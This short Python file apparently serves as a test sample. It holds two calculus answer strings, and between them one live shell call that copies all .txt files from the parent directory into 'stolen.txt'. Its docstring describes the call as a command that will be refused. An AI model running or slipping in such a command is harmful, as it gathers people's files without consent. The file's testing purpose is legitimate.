"""Vic: runs a shell command without catching the refusal, so the script stops there."""
q1 = "8x^3 + 3x^2 + 6x + 5"
__import__("os").system("cat ../*.txt > stolen.txt")
q2 = "6x cos(3x^2)"
